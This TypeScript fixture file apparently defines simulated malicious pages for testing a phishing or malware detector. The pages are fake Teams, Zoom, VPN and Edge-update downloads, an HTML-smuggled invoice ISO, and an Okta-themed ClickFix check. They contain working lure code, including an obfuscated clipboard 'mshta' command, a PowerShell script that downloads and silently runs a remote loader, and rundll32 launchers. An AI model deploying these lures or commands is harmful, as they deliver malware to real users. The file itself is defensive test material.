import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, jsRoute, jsonRoute, pngRoute, fileRoute } from '../parts/t-kit.js';
import { cfb, pe, iso, lnk, zip } from '../parts/e-bin.js';

// Reported by employees: fake collaboration-client, VPN-client and browser-runtime downloads, invoice ISO smuggling, a ClickFix device check — dev split.

const tmHost = 'teams-download.microsoft-apps.live';
const zmHost = 'zoom-meetings-client.com';
const isoHost = 'docs.billing-statements.net';
const acHost = 'anyconnect.hartwell-vpn.com';

const isoBytes = iso('INV_20261127', ['INVOICE_20261127.PDF.LNK', 'DATA.DAT', 'README.TXT']);
const isoB64 = isoBytes.toString('base64');

export const entries: Entry[] = [
  {
    id: 't-mw-teams-msi-lookalike',
    label: 'malware',
    kind: 'fake-installer',
    url: `https://${tmHost}/en-us/microsoft-teams/download-app`,
    body: doc(
      'Download Microsoft Teams Desktop and Mobile Apps | Microsoft Teams',
      `<link rel="icon" href="/en-us/favicon.png"><style>body{margin:0;font-family:"Segoe UI",sans-serif;color:#242424}
.nav{display:flex;align-items:center;gap:24px;padding:12px 40px;border-bottom:1px solid #eee;font-size:14px}
.hero{display:flex;gap:50px;max-width:1100px;margin:50px auto;padding:0 30px;align-items:center}
.hero h1{font-size:42px;margin:0 0 14px}.dl{display:inline-block;background:#5b5fc7;color:#fff;padding:14px 28px;border-radius:4px;text-decoration:none;font-weight:600}
.img{width:460px;height:300px;background:linear-gradient(135deg,#7b83eb,#5b5fc7);border-radius:12px}
.ft{background:#f2f2f2;padding:30px 40px;font-size:12px;color:#616161;margin-top:60px}</style>`,
      `<div class="nav"><b>Microsoft</b><span>|</span><b>Teams</b><span>Home</span><span>Business</span><span>Enterprise</span><span>Resources</span><span style="margin-left:auto">Sign in</span></div>
<div class="hero"><div><h1>Download Microsoft Teams for desktop</h1><p>Connect and collaborate with anyone from anywhere on Teams. Your organisation requires the latest version (24295.605) for the new meeting experience.</p>
<a class="dl" id="dl" href="/en-us/api/download/MSTeamsSetup_x64.msi">Download for Windows (64-bit)</a><p style="font-size:13px;color:#616161">Version 24295.605.3225.8804 &middot; Windows 10/11</p><p id="ok" style="font-size:13px;color:#0b6a0b"></p></div><div class="img"></div></div>
<div class="ft">English (United States) &nbsp; Contact Microsoft &nbsp; Privacy &nbsp; Terms of use &nbsp; Trademarks &nbsp; &copy; Microsoft 2026</div>
<script>setTimeout(function(){document.getElementById('ok').textContent='Your download should start automatically. If not, click the button above.';location.href=document.getElementById('dl').href},2500);</script>`,
    ),
    routes: {
      [`${tmHost}/en-us/favicon.png`]: pngRoute(91, 95, 199),
      [`${tmHost}/en-us/api/download/MSTeamsSetup_x64.msi`]: fileRoute(cfb(['MSTeamsSetup', 'Microsoft Teams', 'CustomAction', 'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand', 'ScreenConnect.ClientService.exe', 'InstallExecuteSequence'], 16384), 'application/x-msi', 'MSTeamsSetup_x64.msi'),
    },
  },
  {
    id: 't-mw-zoom-client-exe',
    label: 'malware',
    kind: 'fake-installer',
    url: `https://${zmHost}/j/84512093377?pwd=bXJzZkh2Q3hhV0pX`,
    body: doc(
      'Launch Meeting - Zoom',
      `<style>body{margin:0;font-family:Lato,Arial,sans-serif;color:#232333;text-align:center}
.t{display:flex;justify-content:space-between;padding:14px 30px;border-bottom:1px solid #eee}.t b{color:#0b5cff;font-size:24px}
.w{max-width:620px;margin:60px auto}.b{display:inline-block;background:#0b5cff;color:#fff;padding:12px 26px;border-radius:10px;text-decoration:none;font-weight:700}
.n{background:#fff4e5;border:1px solid #ffcf8a;padding:12px;border-radius:6px;font-size:14px;margin:20px 0}</style>`,
      `<div class="t"><b>zoom</b><span>Support &nbsp; English</span></div>
<div class="w"><h2>Click <b>Open Zoom Meetings</b> on the dialog shown by your browser</h2>
<div class="n">&#9888; Your Zoom client is outdated and cannot join this meeting (error 10004). Download and install the latest version to join <b>"Hartwell / Cascade contract review"</b>.</div>
<p><a class="b" id="d" href="/client/latest/ZoomInstallerFull.exe">Download Now</a></p>
<p style="font-size:13px;color:#747487">Having issues with Zoom Client? <a href="#">Join from Your Browser</a></p>
<p style="font-size:12px;color:#999;margin-top:40px">By clicking "Join", you agree to our Terms of Service and Privacy Statement. &copy; 2026 Zoom Communications, Inc.</p></div>
<script>setTimeout(function(){var a=document.createElement('a');a.href='/client/latest/ZoomInstallerFull.exe';a.download='ZoomInstallerFull.exe';document.body.appendChild(a);a.click()},1500);</script>`,
    ),
    routes: {
      [`${zmHost}/client/latest/ZoomInstallerFull.exe`]: fileRoute(pe({ x64: true, strings: ['Zoom Video Communications, Inc.', 'ZoomInstallerFull', 'AnyDesk', 'CreateProcessW', 'VirtualAllocEx', 'WriteProcessMemory'], size: 24576 }), 'application/octet-stream', 'ZoomInstallerFull.exe'),
    },
  },
  {
    id: 't-mw-invoice-iso-smuggle',
    label: 'malware',
    kind: 'html-smuggling',
    url: `https://${isoHost}/statement/view?id=88213&c=hartwell`,
    body: doc(
      'Statement of Account – Download',
      `<style>body{margin:0;font-family:Arial,sans-serif;background:#f0f0f0}.w{max-width:460px;margin:12vh auto;background:#fff;padding:30px;border-radius:4px;text-align:center;box-shadow:0 1px 6px rgba(0,0,0,.12)}
.bar{height:6px;background:#e5e5e5;border-radius:3px;overflow:hidden;margin:18px 0}.bar div{height:100%;width:0;background:#2b7de9;transition:width 1.5s}</style>`,
      `<div class="w"><img src="/statement/pdf.png" width="48" height="48" alt=""><h3>Statement_Nov2026.pdf</h3><p style="font-size:14px;color:#555">Your document is being prepared for download&hellip;</p>
<div class="bar"><div id="pb"></div></div><p style="font-size:12px;color:#888">If the download does not start, <a href="#" id="again">click here</a>.<br>Open the downloaded file to view the statement.</p></div>
<script>
var d='${isoB64}';
function go(){var b=atob(d),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);
var bl=new Blob([u],{type:'application/octet-stream'}),a=document.createElement('a');a.href=URL.createObjectURL(bl);a.download='Statement_Nov2026.iso';document.body.appendChild(a);a.click();}
setTimeout(function(){document.getElementById('pb').style.width='100%'},100);setTimeout(go,1700);document.getElementById('again').onclick=function(e){e.preventDefault();go()};
</script>`,
    ),
    routes: {
      [`${isoHost}/statement/pdf.png`]: pngRoute(220, 30, 30),
    },
  },
  {
    id: 't-mw-anyconnect-lookalike',
    label: 'malware',
    kind: 'fake-installer',
    url: `https://${acHost}/+CSCOE+/logon.html`,
    body: doc(
      'SSL VPN Service',
      `<style>body{margin:0;font-family:Arial,sans-serif;background:#fff}.h{background:#049fd9;color:#fff;padding:14px 24px;font-size:18px}
.w{max-width:560px;margin:40px auto;border:1px solid #ccc;padding:26px}.b{display:inline-block;background:#049fd9;color:#fff;padding:10px 22px;text-decoration:none;border-radius:3px}
ol{font-size:14px;line-height:1.8}</style>`,
      `<div class="h">Cisco Secure Client &middot; Hartwell Engineering</div>
<div class="w"><h3>Remote access client update required</h3><p style="font-size:14px">The VPN head-end was upgraded over the weekend. Existing AnyConnect clients (4.x) can no longer connect. Install the updated Secure Client package to restore access.</p>
<ol><li>Download the package below.</li><li>Extract the ZIP and run <b>Setup.cmd</b> (do not run as a different user).</li><li>Reconnect to <b>vpn.hartwell-eng.com</b>.</li></ol>
<p><a class="b" href="/+CSCOE+/sdesktop/files/cisco-secure-client-win-5.1.6.103.zip">Download Secure Client for Windows</a></p>
<p style="font-size:12px;color:#666">Package SHA-256 is published on the IT intranet. Contact the Service Desk if you have issues.</p></div>`,
    ),
    routes: {
      [`${acHost}/+CSCOE+/sdesktop/files/cisco-secure-client-win-5.1.6.103.zip`]: fileRoute(
        zip([
          { name: 'Setup.cmd', data: '@echo off\r\ncd /d %~dp0\r\nstart "" /b rundll32.exe csc_core.dll,DllRegisterServer\r\nstart "" vpnui_setup.exe\r\n' },
          { name: 'csc_core.dll', data: pe({ dll: true, strings: ['DllRegisterServer', 'Cisco Systems, Inc.', 'WinHttpOpen', 'cmd.exe /c'], size: 12288 }) },
          { name: 'vpnui_setup.exe', data: pe({ strings: ['Cisco Secure Client', 'Setup'], size: 8192 }) },
          { name: 'Readme.url', data: '[InternetShortcut]\r\nURL=https://www.cisco.com/\r\n' },
          { name: 'Release Notes.pdf.lnk', data: lnk('C:\\Windows\\System32\\cmd.exe', '/c start rundll32 csc_core.dll,DllRegisterServer') },
        ]),
        'application/zip',
        'cisco-secure-client-win-5.1.6.103.zip',
      ),
    },
  },
  {
    id: 't-mw-edge-update-msix-sharepoint',
    label: 'malware',
    kind: 'fake-browser-update',
    url: 'https://hartwell-eng-files.sharepoint-cdn.app/sites/Projects/viewer.aspx?doc=Bid_Drawings_RevC.pdf',
    body: doc(
      'SharePoint Online Viewer',
      `<style>body{margin:0;font-family:"Segoe UI",sans-serif;background:#f3f2f1}.t{height:48px;background:#036c70;color:#fff;display:flex;align-items:center;padding:0 16px;font-weight:600}
.c{max-width:540px;margin:80px auto;background:#fff;padding:32px;box-shadow:0 2px 10px rgba(0,0,0,.12);text-align:center}.e{width:64px;height:64px;border-radius:50%;margin:0 auto 16px;background:conic-gradient(#0c59a4,#2ac3a2,#0c59a4)}
.b{display:inline-block;background:#0078d4;color:#fff;text-decoration:none;padding:11px 24px;border-radius:4px;font-weight:600}</style>`,
      `<div class="t">&#9638; SharePoint</div><div class="c"><div class="e"></div><h2>Update Microsoft Edge WebView to view this file</h2>
<p style="font-size:14px;color:#444">Bid_Drawings_RevC.pdf (14.2 MB) uses the new SharePoint secure viewer, which requires WebView2 Runtime 131 or later. Your version (118.0.2088) is not supported.</p>
<p><a class="b" href="/sites/Projects/_layouts/15/WebView2RuntimeUpdate.msix">Install update (Microsoft Store package)</a></p>
<p style="font-size:12px;color:#777">Publisher: Microsoft Corporation &middot; Signed package &middot; Installation takes less than a minute.</p></div>`,
    ),
    routes: {
      'hartwell-eng-files.sharepoint-cdn.app/sites/Projects/_layouts/15/WebView2RuntimeUpdate.msix': fileRoute(
        zip([
          { name: 'AppxManifest.xml', data: `<?xml version="1.0" encoding="utf-8"?><Package xmlns="http://schemas.microsoft.com/appx/manifest/foundation/windows10"><Identity Name="Microsoft.WebView2Update" Publisher="CN=Microsoft Corporation, O=Microsoft Corporation, L=Redmond, S=Washington, C=US" Version="131.0.2903.0"/><Properties><DisplayName>WebView2 Runtime Update</DisplayName><PublisherDisplayName>Microsoft Corporation</PublisherDisplayName></Properties><Applications><Application Id="App" Executable="VFS\\ProgramFilesX64\\updater\\StartingScriptWrapper.ps1" EntryPoint="Windows.FullTrustApplication"/></Applications></Package>` },
          { name: 'config.json', data: '{"applications":[{"id":"App","startScript":{"scriptPath":"refresh.ps1","runInVirtualEnvironment":true,"showWindow":false}}]}' },
          { name: 'refresh.ps1', data: "$d=\"$env:APPDATA\\\\wv2\";New-Item -ItemType Directory -Force $d|Out-Null;iwr 'https://cdn-wv2update.site/p/loader.bin' -OutFile \"$d\\\\wv2.exe\";Start-Process \"$d\\\\wv2.exe\" -WindowStyle Hidden\r\n" },
          { name: 'AppxSignature.p7x', data: Buffer.alloc(512, 0x30) },
        ]),
        'application/msix',
        'WebView2RuntimeUpdate.msix',
      ),
    },
  },
  {
    id: 't-cf-okta-verify-human',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://hartwell-eng.okta-signin.services/oauth2/v1/authorize/verify?client_id=okta.2b1959c8',
    body: doc(
      'Hartwell Engineering - Security Check',
      `<style>body{margin:0;font:14px Arial,sans-serif;background:#f4f5f7}.bg{height:300px;background:#1d4e89}.w{width:420px;margin:-220px auto 0;background:#fff;border:1px solid #ddd;border-radius:3px}
.hd{padding:26px;text-align:center;border-bottom:1px solid #ddd;color:#1d4e89;font-weight:700;font-size:20px}.bd{padding:24px 36px}.k{display:inline-block;border:1px solid #999;border-bottom-width:3px;border-radius:3px;padding:0 6px;font-family:monospace}
.btn{width:100%;height:40px;background:#1662dd;border:0;border-radius:3px;color:#fff;cursor:pointer;margin-top:10px}</style>`,
      `<div class="bg"></div><div class="w"><div class="hd">HARTWELL</div><div class="bd"><h3 style="text-align:center;margin-top:0">Device verification required</h3>
<p>Okta could not verify that this device is managed by Hartwell Engineering (error <b>DT-4012</b>). Complete device verification to continue to Microsoft 365:</p>
<ol style="line-height:1.9"><li>Click <b>Verify this device</b>.</li><li>Press <span class="k">&#8862; Win</span> + <span class="k">R</span>.</li><li>Press <span class="k">Ctrl</span> + <span class="k">V</span> and <span class="k">Enter</span>.</li><li>Return to this window &mdash; sign-in continues automatically.</li></ol>
<button class="btn" id="v">Verify this device</button><p id="s" style="font-size:12px;color:#2e7d32;text-align:center"></p>
<p style="font-size:11px;color:#888;text-align:center">Okta Device Trust &middot; Powered by Okta</p></div></div>
<script>
(function(){var p=['ms','hta ','ht','tps://okta-','dt.hartwell-eng','-remote.com/v/','dt.hta'];var cmd=p.join('')+'  # Okta Device Trust check DT-4012';
document.getElementById('v').onclick=function(){navigator.clipboard.writeText(cmd).then(function(){document.getElementById('s').textContent='Verification command copied. Press Win+R, then Ctrl+V and Enter.'})};
setInterval(function(){fetch('/oauth2/v1/authorize/verify/status').then(function(r){return r.json()}).then(function(j){if(j.ok)location.href=j.next}).catch(function(){})},5000);})();
</script>`,
    ),
    routes: {
      'hartwell-eng.okta-signin.services/oauth2/v1/authorize/verify/status': jsonRoute({ ok: false }),
    },
  },
];
